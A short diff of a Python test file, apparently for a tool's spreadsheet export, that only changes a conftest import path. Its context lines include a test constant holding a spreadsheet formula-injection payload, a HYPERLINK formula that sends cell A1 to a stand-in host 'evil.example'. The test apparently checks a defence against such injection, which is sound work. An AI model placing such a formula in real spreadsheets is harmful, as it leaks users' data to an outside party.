@@ -16,7 +16,7 @@ from click.testing import CliRunner
 
 from migobs.cli import cli
 from migobs.spreadsheet import FORMULA_STARTS
-from tests.gcm.conftest import People, TestClient, headers
+from tests.tracker.conftest import People, TestClient, headers
 
 pytestmark = pytest.mark.attack
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
